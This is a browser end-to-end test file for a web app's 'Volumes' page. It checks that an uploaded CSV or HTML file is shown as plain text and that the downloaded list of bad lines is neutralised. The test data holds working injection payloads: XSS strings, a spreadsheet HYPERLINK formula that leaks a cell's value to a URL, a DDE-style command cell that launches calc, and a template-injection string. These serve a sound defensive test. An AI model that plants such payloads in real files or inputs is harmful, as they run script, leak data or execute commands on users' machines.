import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import { plainText } from '../../src/io/csvText.ts';
import { bigBadFile } from '../unit/io/bigBadFile.ts';
import { chooseFile, downloaded, openPage, planReady, wordsOf } from './page.ts';
import { readCsv } from './recompute.ts';

const setAside = (page: Page) => page.getByRole('region', { name: 'Set aside', exact: true });
const saveList = (page: Page) => setAside(page).getByRole('button', { name: 'Download the list (CSV)', exact: true });

async function isOpen(page: Page, name: string): Promise<void> {
  await page.getByRole('heading', { name: `${name} is open; nothing of it is stored yet.` }).waitFor();
  await page.waitForFunction(() => document.querySelector('.card[aria-busy="false"]') !== null);
}

const image = '<img src=x onerror="window.marker=1">';
const script = '</td></tr><script>window.marker=1</script>';
const drawing = '<svg onload="window.marker=1">';
const formula = '=HYPERLINK("http://example.org/?leak="&A1,"click")';
const command = "@SUM(1+1)*cmd|' /C calc'!A0";
const template = '{{line}} $t(issues.title)';

/** A file in which every place that the page shows holds something that would run: headers, queues, cells, notes. */
function hostileFile(): { text: string; bad: readonly string[] } {
  const bad = [image, script, drawing, formula, command, template];
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const names = [image, script, formula];
  const good = Array.from({ length: 20 }, (_, i) => `2026-03-02 ${String(8 + (i % 10)).padStart(2, '0')}:00`);
  const rows = good.map((moment, i) => [moment, String(10 + i), quoted(names[i % 2]!), quoted(drawing)]);
  const broken = bad.map((cell, i) => [`2026-03-03 ${10 + i}:00`, quoted(cell), quoted(names[2]!), '']);
  const header = ['Timestamp', quoted(`Contacts ${image}`), 'Queue', quoted(script)];
  // Each time of day once for either of two queues.
  const lines = [header, ...rows.map((row, i) => row.with(2, quoted(names[i < 10 ? 0 : 1]!))), ...broken];
  return { text: `${lines.map((cells) => cells.join(',')).join('\n')}\n`, bad };
}

describe('the Volumes page', () => {
  it('shows what a hostile file holds as text, and lists 300 bad lines of 20,000 one click before the plan', async () => {
    const { page } = await openPage({ step: 'volumes' });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const nothingRan = async () => {
      expect(dialogs).toEqual([]);
      expect(await page.evaluate(() => 'marker' in window)).toBe(false);
      expect(await page.locator('main img, main script, main [onload], main [onerror], main iframe').count()).toBe(0);
    };

    const hostile = hostileFile();
    await chooseFile(page, 'hostile.csv', hostile.text);
    await isOpen(page, 'hostile.csv');
    const words = await wordsOf(page.locator('main'));
    for (const text of [image, script, ...hostile.bad]) expect.soft(words).toContain(text);
    await nothingRan();
    const list = readCsv((await downloaded(page, saveList(page))).text, ',').rows;
    const values = list.filter(({ line }) => Number(line) > 21).map(({ value }) => value!);
    expect(values.map(plainText)).toEqual(hostile.bad);
    for (const value of values) expect(value).not.toMatch(/^[=+\-@]/);

    await chooseFile(
      page,
      'table.html',
      `<html><script>window.marker=1</script><table><tr><td>${image}</td></tr></table>`,
    );
    await page.getByRole('alert').filter({ hasText: 'table.html' }).waitFor();
    await nothingRan();

    const { text, bad, totalContacts } = bigBadFile(null);
    await chooseFile(page, 'bad.csv', text);
    await isOpen(page, 'bad.csv');
    await expect(wordsOf(setAside(page).locator('.hd').first())).resolves.toMatch(/300/);
    const rows = readCsv((await downloaded(page, saveList(page))).text, ',').rows;
    const found = rows.map(({ line, column, value }) => ({ line: Number(line), column, value: plainText(value!) }));
    expect(found).toEqual(bad.map(({ line, column = '', value = '' }) => ({ line, column, value })));
    for (const { reason } of rows) expect(reason).toMatch(/\w/);

    await page.getByRole('button', { name: 'Compute plan', exact: true }).click();
    await planReady(page);
    await page.getByRole('link', { name: 'Volumes', exact: true }).filter({ visible: true }).click();
    expect(await wordsOf(page.locator('main'))).toContain(totalContacts.toLocaleString('en-GB'));
    await nothingRan();
  });
});
